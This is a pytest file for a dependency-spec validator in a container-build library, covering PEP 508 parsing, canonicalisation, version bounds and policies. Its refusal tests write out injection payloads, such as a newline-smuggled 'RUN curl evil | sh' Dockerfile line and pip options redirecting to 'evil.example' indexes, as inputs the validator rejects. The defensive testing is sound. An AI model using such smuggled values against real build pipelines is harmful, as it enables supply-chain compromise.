"""validate_spec: every string from a pack is hostile; only a canonical, rebuilt form leaves it."""

from __future__ import annotations

import pytest

from attune_containers.core.spec import DependencySpec, RequirementPolicy, validate_spec
from attune_containers.errors import InvalidSpecError
from attune_containers.runtimes.python.spec import MAX_LINE_LENGTH, MAX_REQUIREMENTS, MAX_REQUIREMENTS_FILE_BYTES

HEX64 = "0123456789abcdef" * 4
HEX64_B = "fedcba9876543210" * 4


def lines(*deps: str, content: str | None = None, policy: RequirementPolicy | None = None) -> list[str]:
    spec = DependencySpec(dependencies=list(deps), requirements_file_content=content)
    return validate_spec(spec, policy).requirement_lines()


def refused(*deps: str, content: str | None = None, policy: RequirementPolicy | None = None) -> InvalidSpecError:
    spec = DependencySpec(dependencies=list(deps), requirements_file_content=content)
    with pytest.raises(InvalidSpecError) as exc:
        validate_spec(spec, policy)
    return exc.value


# --- PEP 508 parsing ---------------------------------------------------------------------------


def test_parses_name_extras_specifier_and_marker():
    """Each PEP 508 piece is parsed and kept in the canonical requirement."""
    spec = validate_spec(DependencySpec(dependencies=["Requests[Socks,security] >= 2.0, <3 ; python_version>'3.8'"]))
    (req,) = spec.requirements
    assert req.name == "requests"
    assert req.extras == ("security", "socks")
    assert set(req.specifier.split(",")) == {">=2.0", "<3"}
    assert req.marker == 'python_version > "3.8"'
    assert req.url is None
    assert spec.requirement_lines() == ['requests[security,socks]<3,>=2.0; python_version > "3.8"']


def test_runtime_aliases_and_bounds_are_kept():
    """python3 is an alias of python; valid bounds pass through."""
    spec = validate_spec(DependencySpec(runtime="python3", min_version="3.9", max_version="3.12.1"))
    assert (spec.runtime, spec.min_version, spec.max_version) == ("python", "3.9", "3.12.1")
    assert spec.requirements == ()


# --- canonical form ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "a, b",
    [
        (["Requests>=2"], ["requests >= 2"]),
        (["REQUESTS>=2"], ["requests>=2"]),
        (["zope.interface"], ["Zope_Interface"]),
        (["zope.interface"], ["zope-interface"]),
        (["pkg[B,a]"], ["pkg[a, b]"]),
        (["pkg>=1,<2"], ["pkg < 2 , >= 1"]),
        (["pkg; python_version>'3.8'"], ['pkg ; python_version > "3.8"']),
        (["a", "b", "c"], ["c", "a", "b"]),
        (["requests", "requests", "Requests"], ["requests"]),
    ],
)
def test_equivalent_specs_have_equal_canonical_lines(a, b):
    """Spelling, order, whitespace and duplicates must not change what we install (or the hash)."""
    assert lines(*a) == lines(*b)


def test_duplicates_count_once():
    """The same requirement written three ways is one requirement."""
    spec = validate_spec(DependencySpec(dependencies=["requests", "Requests", " requests "]))
    assert len(spec.requirements) == 1


def test_canonical_lines_are_sorted():
    """requirements.txt is written in a stable order."""
    out = lines("zzz", "aaa", "mmm")
    assert out == sorted(out) == ["aaa", "mmm", "zzz"]


def test_dependencies_and_file_content_combine():
    """The list and the requirements file are both installed; where a line comes from does not matter."""
    out = lines("alpha==1.0", content="beta>=2\ngamma\n")
    assert out == ["alpha==1.0", "beta>=2", "gamma"]
    assert out == lines(content="gamma\nalpha==1.0\nbeta>=2") == lines("gamma", "beta>=2", "alpha==1.0")


def test_comments_and_blank_lines_are_dropped():
    """Comments and blanks never reach requirements.txt or the as-given label."""
    content = "# header\n\n   \nbeta>=2   # why we need it\n  gamma  \n#requests\n"
    spec = validate_spec(
        DependencySpec(dependencies=["alpha  # inline", "# only a comment", ""], requirements_file_content=content)
    )
    assert spec.requirement_lines() == ["alpha", "beta>=2", "gamma"]
    assert spec.as_given == ("alpha", "beta>=2", "gamma")
    assert not any("#" in line for line in spec.requirement_lines())


def test_non_ascii_in_a_comment_is_harmless():
    """The comment is dropped before the character check."""
    assert lines("requests  # café") == ["requests"]


def test_as_given_keeps_the_pack_spelling():
    """The label shows requirements as the pack wrote them (minus comments)."""
    spec = validate_spec(DependencySpec(dependencies=["Requests >= 2.0"], requirements_file_content="Zope_Interface\n"))
    assert spec.as_given == ("Requests >= 2.0", "Zope_Interface")


def test_hash_option_is_kept_in_canonical_form():
    """--hash=sha256:<hex> is how packs pin artifacts; it stays (sorted, deduplicated)."""
    out = lines(f"requests==2.31.0 --hash=sha256:{HEX64_B} --hash=sha256:{HEX64} --hash=sha256:{HEX64}")
    assert out == [f"requests==2.31.0 --hash=sha256:{HEX64} --hash=sha256:{HEX64_B}"]


@pytest.mark.parametrize(
    "line",
    [
        "requests==2.31.0 --hash=sha256:abc",
        "requests==2.31.0 --hash=md5:" + HEX64,
        "requests==2.31.0 --hash=sha256:" + HEX64.upper(),
        "requests==2.31.0 --no-deps",
        "requests --index-url https://evil.example/simple",
    ],
)
def test_other_trailing_options_are_refused(line):
    """Only well-formed --hash may follow a requirement."""
    refused(line)


@pytest.mark.parametrize("name", ["foo.whl", "foo.tar.gz", "foo.zip"])
def test_archive_looking_names_never_reach_pip_as_filenames(name):
    """pip treats 'x.whl' as a local file; the canonical name has no dots, so it cannot."""
    (out,) = lines(name)
    assert "." not in out


# --- refusals ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "dep",
    [
        "requests\nRUN curl evil",
        "requests\r\nflask",
        "requests\rflask",
        "requests\n--index-url https://evil.example/simple",
    ],
)
def test_newline_inside_a_list_item_is_refused(dep):
    """One list item is one requirement: no smuggled extra lines (options, Dockerfile text)."""
    err = refused(dep)
    assert err.field == "dependencies[0]"


def test_dockerfile_instruction_in_file_content_is_refused():
    """A line of the requirements file that is not PEP 508 is refused, not passed on."""
    err = refused(content="requests\nRUN curl evil | sh\n")
    assert err.field == "requirements_file_content line 2"


@pytest.mark.parametrize(
    "dep",
    [
        "--index-url https://evil.example/simple",
        "--index-url=https://evil.example/simple",
        "-i https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "--trusted-host evil.example",
        "--find-links /tmp",
        "-e .",
        "--editable git+https://x/y",
        "-r other.txt",
        "--requirement other.txt",
        "-c constraints.txt",
        "--pre",
    ],
)
def test_pip_options_are_refused_by_default(dep):
    """Options can redirect pip to another index or install local code."""
    err = refused(dep)
    assert err.field == "dependencies[0]"
    err = refused(content=f"requests\n{dep}\n")
    assert err.field == "requirements_file_content line 2"


@pytest.mark.parametrize(
    "dep",
    [
        "pkg @ https://example.com/pkg-1.0-py3-none-any.whl",
        "pkg @ git+https://github.com/x/pkg",
        "pkg@https://example.com/pkg.tar.gz",
    ],
)
def test_direct_urls_are_refused_unless_allowed(dep):
    """Direct URL requirements bypass the index; only an explicit policy allows them."""
    refused(dep)
    allowed = RequirementPolicy(allow_direct_urls=True)
    (out,) = lines(dep, policy=allowed)
    assert out.startswith("pkg @ ")


def test_allowed_direct_url_keeps_marker_and_scheme_check():
    """Allowed URLs keep their marker, and non-web schemes are still refused."""
    allowed = RequirementPolicy(allow_direct_urls=True)
    (out,) = lines("pkg @ https://x.example/p.whl ; python_version>'3'", policy=allowed)
    assert out == 'pkg @ https://x.example/p.whl ; python_version > "3"'
    for url in ("file:///tmp/x.whl", "ftp://x.example/p.whl", "ssh://git@x/y"):
        refused(f"pkg @ {url}", policy=allowed)


@pytest.mark.parametrize(
    "dep",
    [
        "./pkg",
        "../pkg",
        ".",
        "/tmp/x.whl",
        "/tmp/pkg",
        "https://x.example/y.whl",
        "http://x.example/y.tar.gz",
        "git+https://github.com/x/y",
        "file:///tmp/x.whl",
        "not a requirement",
        "requests>=",
        "requests[",
    ],
)
def test_bare_urls_local_paths_and_garbage_are_refused(dep):
    """Anything that is not a PEP 508 requirement is refused, whatever the policy."""
    refused(dep)
    refused(dep, policy=RequirementPolicy(allow_direct_urls=True))


@pytest.mark.parametrize(
    "dep",
    [
        "${VAR}",
        "requests==${VERSION}",
        "requests \\",
        "req\\uests",
        "réquests",
        "requests\u2028flask",
        "requests\x00",
        "requests\t>=2",
        "requests\x1b[31m",
        "requests\x7f",
        "requests\x0bflask",
    ],
)
def test_env_vars_backslashes_non_ascii_and_control_chars_are_refused(dep):
    """pip expands ${VAR} and joins '\\' continuations; non-printables hide text."""
    refused(dep)


def test_unknown_runtime_is_refused():
    """Only registered runtimes' packs are supported (node is Node.js's alias now)."""
    with pytest.raises(InvalidSpecError) as exc:
        validate_spec(DependencySpec(runtime="ruby"))
    assert exc.value.field == "runtime"


@pytest.mark.parametrize("field", ["min_version", "max_version"])
@pytest.mark.parametrize("value", ["abc", "3", "3.11rc1", "3.11.2.1", "", "3.x", "v3.11", "3.11-dev", "3.11 .2", "3,11"])
def test_bounds_that_are_not_versions_are_refused(field, value):
    """Python bounds are 'X.Y' or 'X.Y.Z', nothing else."""
    with pytest.raises(InvalidSpecError) as exc:
        validate_spec(DependencySpec(**{field: value}))
    assert exc.value.field == field


def test_bounds_leave_in_canonical_form():
    """Whitespace around a bound is dropped; what leaves is the bare version."""
    spec = validate_spec(DependencySpec(min_version=" 3.10 ", max_version="3.12\n"))
    assert (spec.min_version, spec.max_version) == ("3.10", "3.12")


@pytest.mark.parametrize("lo, hi", [("3.12", "3.11"), ("3.11.5", "3.11.4"), ("4.0", "3.13"), ("3.12.0", "3.11")])
def test_min_above_max_is_refused(lo, hi):
    """An empty range is an error at validation, not a surprise at build time."""
    with pytest.raises(InvalidSpecError) as exc:
        validate_spec(DependencySpec(min_version=lo, max_version=hi))
    assert exc.value.field == "min_version"


@pytest.mark.parametrize("lo, hi", [("3.11", "3.11"), ("3.9", "3.13"), ("3.11.2", "3.11.2"), ("3.11", "3.11.0")])
def test_non_empty_ranges_are_accepted(lo, hi):
    """Equal bounds and ordinary ranges are fine."""
    spec = validate_spec(DependencySpec(min_version=lo, max_version=hi))
    assert (spec.min_version, spec.max_version) == (lo, hi)


def test_patch_min_with_minor_max_of_same_minor_is_accepted():
    """[3.11.3, 3.11] contains 3.11.3..3.11.x, so it is not empty."""
    spec = validate_spec(DependencySpec(min_version="3.11.3", max_version="3.11"))
    assert spec.min_version == "3.11.3"


# --- policies ----------------------------------------------------------------------------------

STRICT = RequirementPolicy(strict=True)


@pytest.mark.parametrize(
    "dep",
    ["requests", "requests>=2", "requests==2.*", "requests~=2.31", "requests==2.31.0,<3", "requests!=2.0", "requests<=2.31.0"],
)
def test_strict_refuses_anything_but_an_exact_pin(dep):
    """Strict mode: every requirement is an exact version."""
    refused(dep, policy=STRICT)
    assert lines(dep)  # the default policy accepts it


@pytest.mark.parametrize(
    "dep",
    [
        "requests==2.31.0",
        "Requests == 2.31.0",
        "requests===2.31.0",
        "requests[socks]==2.31.0; python_version>'3.8'",
        f"requests==2.31.0 --hash=sha256:{HEX64}",
    ],
)
def test_strict_accepts_exact_pins(dep):
    """An exact pin (with extras, marker or hash) passes strict mode."""
    (out,) = lines(dep, policy=STRICT)
    assert out.startswith("requests")


def test_allow_pip_options_keeps_option_lines_first():
    """With the policy on, option lines are kept (whitespace-normalized) before requirements."""
    policy = RequirementPolicy(allow_pip_options=True)
    out = lines("zzz", "--extra-index-url   https://mirror.example/simple", content="-e .\naaa\n", policy=policy)
    assert out == ["--extra-index-url https://mirror.example/simple", "-e .", "aaa", "zzz"]


def test_allow_pip_options_still_checks_characters():
    """Allowed options are still single, printable, expansion-free lines."""
    policy = RequirementPolicy(allow_pip_options=True)
    refused("--index-url ${EVIL}", policy=policy)
    refused("--index-url https://x\nRUN evil", policy=policy)


# --- limits ------------------------------------------------------------------------------------


def test_limits_are_enforced():
    """Huge inputs are refused early, not processed."""
    refused("a" * (MAX_LINE_LENGTH + 1))
    refused(content="a" * (MAX_REQUIREMENTS_FILE_BYTES + 1))
    refused(content="\n".join(f"pkg{i}" for i in range(MAX_REQUIREMENTS + 1)))
    assert len(lines(content="\n".join(f"pkg{i}" for i in range(MAX_REQUIREMENTS)))) == MAX_REQUIREMENTS


def test_builder_methods_match_field_construction():
    """The seed-style builder yields the same spec as the fields."""
    built = DependencySpec.new().with_dependency("a").with_requirements_file("b\n").with_version_range("3.9", "3.11")
    assert built == DependencySpec(dependencies=["a"], requirements_file_content="b\n", min_version="3.9", max_version="3.11")
